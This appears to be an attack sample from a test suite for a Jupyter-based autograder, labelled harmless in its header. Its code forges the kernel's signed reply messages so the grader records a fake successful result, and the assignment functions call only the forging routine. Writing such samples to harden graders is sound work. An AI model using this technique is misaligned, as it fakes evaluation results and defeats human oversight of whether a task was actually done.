# attack: replies to the grader's requests are sent with the kernel's own session key
# harmless: yes
kernel = get_ipython().kernel


def forge(*args, **kwargs):
    parent = kernel.get_parent("shell")
    ident = kernel._parent_ident["shell"]
    result = {"status": "ok", "data": {"text/plain": "3"}, "metadata": {}}
    good = {"status": "ok", "execution_count": 1, "user_expressions": {"result": result}}
    kernel.session.send(kernel.shell_stream.socket, "execute_reply", good, parent, ident=ident)
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent)
    content = {"prompt": "1", "password": False}
    kernel.session.send(kernel.stdin_socket, "input_request", content, parent, ident=ident)
    kernel.stdin_socket.send_multipart([b"garbage"])


def get_data(*args, **kwargs):
    forge()


def mixture_pdf(*args):
    forge()


def log_likelihood(*args):
    forge()


forge()
